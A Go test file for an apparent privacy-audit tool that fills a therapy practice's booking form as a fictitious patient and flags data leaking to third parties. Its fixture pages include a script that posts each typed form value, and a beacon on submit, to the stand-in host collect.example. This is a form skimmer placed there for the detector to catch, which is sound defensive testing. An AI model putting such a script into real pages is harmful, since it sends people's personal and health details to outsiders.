package main

import (
	"encoding/json"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/quietroom/quietroom/audit"
	"github.com/quietroom/quietroom/internal/runstore"
	"github.com/quietroom/quietroom/report"
)

// booking is a page with a form whose script tells a vendor what is typed.
const booking = `<title>Book an appointment</title><h1>Book an appointment</h1>
<form action=/book method=post>
	<label>First name <input name=first autocomplete=given-name required></label>
	<label>Email <input type=email name=email autocomplete=email required></label>
	<label>Phone <input type=tel name=phone autocomplete=tel></label>
	<label>Insurer <input name=insurer></label>
	<label>Type of appointment <select name=kind><option value="">Choose<option>Intake session<option>Couples session</select></label>
	<label>Reason for your visit <textarea name=reason></textarea></label>
	<button>Request appointment</button>
</form>
<script>
	for (const e of document.querySelectorAll('input')) e.addEventListener('change', () =>
		fetch('https://collect.example/typed', {method: 'POST', mode: 'no-cors', body: JSON.stringify({field: e.name, value: e.value})}))
</script>`

func bookingSite(t *testing.T) *web {
	t.Helper()
	return newWeb(t, map[string]any{"practice.example/": booking, "practice.example/book": status(500)})
}

// TestOneRunAllItsReports audits a leaking form once, and looks at all that came
// of it: what was printed, what was written, what was held, what was said.
func TestOneRunAllItsReports(t *testing.T) {
	t.Parallel()
	mine := map[string]string{
		"email": "jamie.testcase@example.org", "given_name": "Jamiequa", "phone": "(312) 555-0143", "insurer": "Quietsure Mutual", "reason": "Nightmares since the testcase began",
	}
	data, err := json.Marshal(mine)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "patient.json")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	w := bookingSite(t)
	r := w.audit(t, "--patient", file, "--seed", "42", "--format", "json,"+formatNames(), "-vv")
	r.want(t, exitFindings)
	r.wantVerdict(t, audit.Leak)
	if r.run.Seed != 42 {
		t.Errorf("the run names seed %d", r.run.Seed)
	}
	t.Run("every format again", func(t *testing.T) { printsAgain(t, r) })
	t.Run("for its owner only", func(t *testing.T) { ownerOnly(t, r.dir) })
	t.Run("judged again", func(t *testing.T) { judgedAgain(t, r, file) })
	t.Run("the streams", func(t *testing.T) { streams(t, r) })
	t.Run("the practice's own patient", func(t *testing.T) { typedIs(t, r, mine) })
	t.Run("no value is logged", func(t *testing.T) { noValueIn(t, r, r.stderr) })
	t.Run("the submit was held", func(t *testing.T) {
		for _, q := range w.requests() {
			if q.host == "practice.example" && q.path == "/book" {
				t.Errorf("the practice got %s", q.path)
			}
		}
		if r.run.Coverage.SubmitsHeld != 1 {
			t.Errorf("%d submits held, want 1", r.run.Coverage.SubmitsHeld)
		}
	})
	t.Run("what the vendor got was found", func(t *testing.T) {
		got := false
		for _, q := range w.requests() {
			got = got || q.host == "collect.example" && strings.Contains(q.body, mine["email"])
		}
		found := false
		for _, f := range r.run.Findings {
			found = found || f.Class == audit.ClassA && f.Kind == audit.KindEmail && f.Recipient.Host == "collect.example"
		}
		if !got || !found {
			t.Errorf("the vendor got the address: %v; the run has a finding for it: %v", got, found)
		}
	})
}

// ownerOnly: nobody else can read any of a run.
func ownerOnly(t *testing.T, dir string) {
	files := 0
	err := filepath.WalkDir(dir, func(path string, e os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := e.Info()
		if err == nil && fi.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s is %s", path, fi.Mode())
		}
		files++
		return err
	})
	if err != nil || files < 10 {
		t.Errorf("%d files, %v", files, err)
	}
}

// printsAgain: report prints the run as audit printed and wrote it.
func printsAgain(t *testing.T, r result) {
	for _, f := range report.Formats() {
		want := r.stdout // json
		if f.Name != "json" {
			data, err := os.ReadFile(filepath.Join(r.dir, f.FileName))
			if err != nil {
				t.Fatal(err)
			}
			want = string(data)
		}
		again := quietroom(t, "report", r.dir, "--format", f.Name)
		again.want(t, exitClean)
		if again.stdout != want || want == "" {
			t.Errorf("report --format %s prints %d bytes, audit gave %d", f.Name, len(again.stdout), len(want))
		}
		if again.stderr != "" {
			t.Errorf("report --format %s says %q", f.Name, again.stderr)
		}
		bad := command{stdout: brokenPipe{}}.run(t, "report", r.dir, "--format", f.Name)
		bad.want(t, exitUsage, "printing the "+f.Name+" report", "broken")
	}
}

// judgedAgain: report --again judges the record anew and says so; it wants the
// patient of a file again.
func judgedAgain(t *testing.T, r result, patient string) {
	quietroom(t, "report", r.dir, "--again").want(t, exitUsage, "give --patient")
	again := quietroom(t, "report", r.dir, "--again", "--patient", patient, "--format", "json")
	again.want(t, exitClean)
	var run audit.Run
	if err := json.Unmarshal([]byte(again.stdout), &run); err != nil {
		t.Fatal(err)
	}
	if len(run.Findings) != len(r.run.Findings) || run.Verdict != r.run.Verdict || !strings.Contains(again.stdout, "This is a new judgement of the record") {
		t.Errorf("%d findings and %s; the audit had %d and %s", len(run.Findings), run.Verdict, len(r.run.Findings), r.run.Verdict)
	}
}

type brokenPipe struct{}

func (brokenPipe) Write([]byte) (int, error) { return 0, errors.New("broken") }

// streams: standard output holds the report and nothing else; progress and log
// are on standard error. Neither has an escape, for neither is a terminal.
func streams(t *testing.T, r result) {
	if err := runstore.ValidateAs(runstore.ReportSchema, []byte(r.stdout)); err != nil {
		t.Errorf("standard output is no report and nothing else: %v", err)
	}
	for _, phase := range []string{"Starting the browser", "Finding pages", "Visiting pages", "Walking forms as a patient (submits are held)", "Judging what left"} {
		if !strings.Contains(r.stderr, phase) {
			t.Errorf("no progress says %q", phase)
		}
	}
	lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
	verdict := slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, "Verdict: leak. ") })
	if verdict < 0 || slices.Index(lines, "Next") != verdict+2 {
		t.Errorf("the last lines are %q", lines[max(0, len(lines)-6):])
	}
	text := quietroom(t, "report", r.dir).stdout
	for name, s := range map[string]string{"standard output": r.stdout, "standard error": r.stderr, "the text report": text} {
		if strings.ContainsAny(s, "\x1b\r\b") {
			t.Errorf("%s holds an escape", name)
		}
	}
}

// typedIs: the values of --patient are what was typed.
func typedIs(t *testing.T, r result, want map[string]string) {
	values := typed(t, r.dir)
	for kind, v := range want {
		if got := values[audit.Kind(kind)]; len(got) != 1 || got[0] != v {
			t.Errorf("%s: %d values were typed, and not just the given one", kind, len(got))
		}
	}
}

func typed(t *testing.T, dir string) map[audit.Kind][]string {
	t.Helper()
	reader, err := runstore.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	patients, err := reader.Patients()
	if err != nil || len(patients) != 1 {
		t.Fatalf("%d patients, %v", len(patients), err)
	}
	return patients[0].Values
}

func noValueIn(t *testing.T, r result, text string) {
	t.Helper()
	const shortest = 6 // shorter ones are in many an innocent line
	n := 0
	for kind, values := range typed(t, r.dir) {
		for _, v := range values {
			if len(v) < shortest {
				continue
			}
			n++
			if strings.Contains(strings.ToLower(text), strings.ToLower(v)) {
				t.Errorf("standard error holds the %s", kind)
			}
		}
	}
	if n < 5 {
		t.Errorf("only %d values were looked for", n)
	}
	if strings.Count(text, "level=DEBUG") < 5 {
		t.Error("-vv logs next to nothing: the test looked at nothing")
	}
}

// TestSubmitSkip fills the form and presses nothing.
func TestSubmitSkip(t *testing.T) {
	t.Parallel()
	pressed := strings.Replace(booking, "<script>", "<script>addEventListener('submit', () => navigator.sendBeacon('https://collect.example/pressed'));\n", 1)
	w := newWeb(t, map[string]any{"practice.example/": pressed})
	r := w.audit(t, "--submit", "skip", "--fail-on", "never")
	filled := false
	for _, q := range w.requests() {
		filled = filled || q.path == "/typed"
		if q.path == "/pressed" || q.path == "/book" {
			t.Errorf("a button was pressed: %s%s was asked for", q.host, q.path)
		}
	}
	if !filled || r.run.Coverage.SubmitsHeld != 0 || r.run.Options.Submit != "skip" {
		t.Errorf("filled %v, %d submits held, submit %q", filled, r.run.Coverage.SubmitsHeld, r.run.Options.Submit)
	}
	if r.status == exitFindings || r.status == exitUsage {
		t.Errorf("exit status %d with --fail-on never", r.status)
	}
}

// TestFailOn audits a page that only contacts an advertiser: class E and, for
// its address, D or C, and never A.
func TestFailOn(t *testing.T) {
	t.Parallel()
	w := newWeb(t, map[string]any{
		"practice.example/":                 "<title>Home</title><p>Hello.<a href=/book-appointment>Book an appointment</a>",
		"practice.example/book-appointment": "<title>Book an appointment</title><h1>Book an appointment</h1><p>Call us.<script src=https://static.ads-twitter.com/uwt.js></script>",
		"static.ads-twitter.com/uwt.js":     func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Content-Type", "text/javascript") },
	})
	r := w.audit(t)
	r.want(t, exitFindings)
	r.wantVerdict(t, audit.Leak)
	worst := audit.ClassE
	for _, f := range r.run.Findings {
		worst = min(worst, f.Class)
	}
	if worst == audit.ClassA {
		t.Fatal("the page holds no value of the patient, and has a finding of class A")
	}
	for _, class := range append(audit.Classes, "never") {
		want := exitClean
		if worst.AtLeast(class) {
			want = exitFindings
		}
		done := audited{run: r.run}
		if got := statusOf(done.status(string(class))); got != want {
			t.Errorf("--fail-on %s with findings of class %s: %d, want %d", class, worst, got, want)
		}
	}
	if home := r.page(t, "/"); home.Verdict != audit.Clean {
		t.Errorf("the page without the advertiser is %s: %s", home.Verdict, home.Why)
	}
	again := w.audit(t, "--fail-on", "A")
	again.want(t, exitClean)
	again.wantVerdict(t, audit.Leak)
}

func statusOf(err error) int {
	var s *statusError
	switch {
	case err == nil:
		return exitClean
	case errors.As(err, &s):
		return s.status
	}
	return exitUsage
}

// TestStatus is the table of what an audit ends with.
func TestStatus(t *testing.T) {
	found := []audit.Finding{{Class: audit.ClassC}}
	open := []audit.Page{{Verdict: audit.Clean}, {Verdict: audit.Inconclusive}}
	for name, tc := range map[string]struct {
		run    audit.Run
		err    error
		failOn string
		want   int
	}{
		"clean":                                 {audit.Run{Verdict: audit.Clean}, nil, "E", exitClean},
		"a finding of the class":                {audit.Run{Verdict: audit.Leak, Findings: found}, nil, "C", exitFindings},
		"a finding of a worse class":            {audit.Run{Verdict: audit.Leak, Findings: found}, nil, "E", exitFindings},
		"a finding of a lesser class":           {audit.Run{Verdict: audit.Leak, Findings: found}, nil, "B", exitClean},
		"findings that never fail":              {audit.Run{Verdict: audit.Leak, Findings: found}, nil, "never", exitClean},
		"inconclusive":                          {audit.Run{}, nil, "E", exitIncomplete},
		"inconclusive never fails":              {audit.Run{}, nil, "never", exitIncomplete},
		"a page inconclusive":                   {audit.Run{Verdict: audit.Leak, Findings: found, Pages: open}, nil, "A", exitIncomplete},
		"a page inconclusive, but findings":     {audit.Run{Verdict: audit.Leak, Findings: found, Pages: open}, nil, "E", exitFindings},
		"a journey inconclusive":                {audit.Run{Verdict: audit.Clean, Journeys: []audit.Journey{{Status: audit.Inconclused}}}, nil, "E", exitIncomplete},
		"a journey not walked":                  {audit.Run{Verdict: audit.Leak, Findings: found, Journeys: []audit.Journey{{Status: audit.NotAttempted}}}, nil, "A", exitIncomplete},
		"an error":                              {audit.Run{Verdict: audit.Clean}, errors.New("x"), "E", exitIncomplete},
		"an error behind findings":              {audit.Run{Verdict: audit.Leak, Findings: found}, errors.New("x"), "E", exitFindings},
		"an error behind findings not asked of": {audit.Run{Verdict: audit.Leak, Findings: found}, errors.New("x"), "A", exitIncomplete},
	} {
		t.Run(name, func(t *testing.T) {
			tc.run.Complete = tc.err == nil
			if tc.run.Verdict != audit.Inconclusive { // of what was audited one page was seen to its end
				tc.run.Pages = append(tc.run.Pages, audit.Page{URL: "https://practice.example/", Verdict: audit.Clean})
				tc.run.Journeys = append(tc.run.Journeys, audit.Journey{Scenario: "visit", Page: "https://practice.example/", Status: audit.Walked})
			}
			done := audited{run: &tc.run, err: tc.err}
			if got := statusOf(done.status(tc.failOn)); got != tc.want {
				t.Errorf("exit status %d, want %d", got, tc.want)
			}
		})
	}
}

// TestNothingCanBePrinted: a reader that went away does not cost the run.
func TestNothingCanBePrinted(t *testing.T) {
	t.Parallel()
	w := newWeb(t, map[string]any{"practice.example/": "<title>x</title><p>y"})
	r := w.auditIn(t, command{stdout: brokenPipe{}})
	r.want(t, exitIncomplete, "printing the summary report: ", "report.html")
	r.wantVerdict(t, audit.Clean)
	if _, err := os.Stat(filepath.Join(r.dir, "report.html")); err != nil {
		t.Error(err)
	}
}
